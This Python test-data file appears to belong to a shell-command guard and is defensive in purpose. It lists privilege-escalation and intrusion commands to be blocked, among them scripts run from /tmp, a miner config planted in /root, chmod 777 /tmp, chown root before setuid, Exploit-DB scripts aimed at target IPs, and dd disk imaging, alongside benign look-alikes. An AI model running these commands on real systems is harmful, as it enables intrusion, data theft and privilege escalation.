"""Issue 18's known leftover misses, closed as classes (left22, session 20).

The leftovers came from earlier sessions' measured sources (honeypot sessions, HTB and OSCP notes,
miner droppers); a fresh held-out source (Unkn0wn-Soldier/htb-writeups' HTB notes and cheat sheets,
kept outside the repository in /work/realworld/left22 on the machine that measured it) was measured at
first sight and at the end. The classes:

- a script run from right in a shared temporary directory (``/tmp``, ``/var/tmp``, ``/dev/shm``) that is
  not on disk to read nor written by the line first (``nohup bash /tmp/x.sh &``): unjudged, asked, as a
  program under a hidden name there already was;
- a file written into another account's home (``mv xmrig.json /root/.config/``, ``cp helper /root/``):
  planted where that account finds it, blocked (reading there already was);
- a shared temporary directory's sticky bit dropped (``chmod 777 /tmp``): anyone may then delete or
  replace another's files;
- a file of the project or of ``/tmp`` made root's (``chown root:root bash``): the step before the
  setuid bit;
- a script named by four to six digits run at another machine (``python3 2265.py -t 10.10.10.5``,
  Exploit-DB's names) and a program built as ``exp`` run by its path;
- a whole disk or partition imaged (``dd if=/dev/sda of=disk.img``): every file on it read past the
  permissions, asked as data collection;
- a bare ``~word`` given to a file command (``cp -r ~bob ./x``, ``rsync -a ~carol/ loot/``): that
  account's home, as the shell expands it (a program's own ``~word`` syntax stays allowed);
- SSH sessions killed by a search (``pkill -9 -f sshpass``, ``kill -9 $(pgrep -f 'ssh ')``): a process
  hunt, asked.

The commands here are variants written for the tests, not the measured lines.
"""

from __future__ import annotations

HELD = {
    "script-from-shared-temp": [
        "nohup bash /tmp/x.sh &",
        "sh /var/tmp/update.sh",
        "nohup sh /tmp/run.sh >/dev/null 2>&1 &",
        "setsid bash /var/tmp/job.sh",
        "sudo bash /tmp/payload.sh",
        "/tmp/x.sh",
        "perl /tmp/bot.pl 10.0.0.1",
        "python3 /dev/shm/stage.py",
        "cd /tmp && bash x.sh",
    ],
    "written-into-another-home": [
        "mv xmrig.json /root/.config/",
        "cp config.json /root/.config/app/",
        "mv miner /home/bob/.local/bin/",
        "sudo cp helper /root/",
        "install -m 755 tool /home/alice/bin/tool",
        "rsync -a kit/ /root/.cache/kit/",
    ],
    "temp-sticky-bit-dropped": [
        "sudo -n chmod 777 /tmp",
        "sudo chmod 777 /tmp",
        "chmod 0777 /var/tmp/",
        "sudo chmod a=rwx /dev/shm",
        "chmod 777 /etc",
        "chmod -R 777 /var",
    ],
    "made-roots-before-setuid": [
        "chown root:root bash",
        "chown root ./x",
        "sudo chown root:root ./rootshell",
        "chown 0:0 /tmp/sh",
        "sudo chown root /var/tmp/helper",
        "chown root.root ./suid",
    ],
    "numbered-exploit-at-a-target": [
        "python3 2265.py -t 10.10.10.5",
        "python 49757.py 10.10.10.5 80",
        "python3 123456.py http://10.10.10.9/",
        "perl 9542.pl 10.10.10.7",
        "ruby 2458.rb 192.168.56.101 8080",
        "./exp",
        "gcc x.c -o exp && ./exp",
        "/tmp/exp",
        "./exp2",
    ],
    "disk-imaged": [
        "dd if=/dev/sda of=disk.img",
        "dd if=/dev/nvme0n1 | gzip > x.gz",
        "sudo dd if=/dev/sdb of=/tmp/usb.img bs=4M",
        "dd if=/dev/mmcblk0 of=sd.img",
        "dd if=/dev/xvda of=/mnt/backup.raw status=progress",
        "dcfldd if=/dev/vda of=vm.img hash=sha256",
    ],
    "tilde-word-of-a-file-command": [
        "cp -r ~bob ./x",
        "tar czf x.tgz ~alice",
        "rsync -a ~carol/ loot/",
        "scp -r ~dave host:/tmp/",
        "zip -r out.zip ~erin",
        "mv ~frank /tmp/f",
    ],
    "ssh-sessions-killed": [
        "pkill -9 -f sshpass",
        "kill -9 $(pgrep -f 'ssh ')",
        "killall -9 ssh",
        "pkill -f 'ssh -R'",
        "kill $(pidof sshpass)",
        "ps aux | grep sshpass | awk '{print $2}' | xargs kill -9",
    ],
}

ALLOWED = [
    # a script the line writes first, a module given a file, a program built in /tmp
    "printf 'echo hi\\n' > /tmp/t.sh && bash /tmp/t.sh",
    "python3 -m pytest /tmp/test_x.py",
    "go build -o /tmp/app . && /tmp/app",
    "bash /tmp/work/scripts/run.sh",
    "cat /tmp/x.sh",
    "chmod +x /tmp/x.sh",
    # writes into one's own home, Homebrew's shared home
    "cp notes.txt ~/Documents/",
    "rsync -a dist/ /home/dev/www/",
    "cp build/app /home/linuxbrew/.linuxbrew/bin/app",
    # /tmp's mode restored, a folder in /tmp opened
    "chmod 1777 /tmp",
    "sudo chmod 1777 /tmp",
    "chmod o+w /tmp",
    "chmod 777 /tmp/build",
    "chmod 777 ./scripts",
    # owners given back to the user; a package's files made root's under fakeroot
    "chown dev:dev ./x",
    "sudo chown -R $USER ./node_modules",
    "fakeroot chown root:root pkg/usr/bin/tool",
    "sudo chown $(id -u):$(id -g) ./data",
    # numbered scripts of a project, an experiment, a local target
    "python 2023.py input.txt",
    "python3 2024.py --day 3",
    "python exp.py --config a.yaml",
    "python3 1234.py http://localhost:8000/",
    "python3 8080.py 127.0.0.1 8080",
    "./expand",
    "./experiment",
    # dd of files, random bytes, a boot sector
    "dd if=/dev/zero of=f bs=1M count=10",
    "dd if=/dev/urandom of=key bs=32 count=1",
    "dd if=/dev/sda of=mbr.bin bs=512 count=1",
    "dd if=in.bin of=out.bin",
    # ~ of one's own; a program's ~word syntax
    "cp -r ~/src ./x",
    "tar czf x.tgz ~/project",
    "bspc node -t ~fullscreen",
    'mitmdump -nr in.flow "~m_post" -w out.flow',
    # one's own agent and servers killed
    "pkill ssh-agent",
    "pkill -f uvicorn",
    "pgrep -f 'ssh '",
    "ps aux | grep ssh",
    "killall -9 node",
]
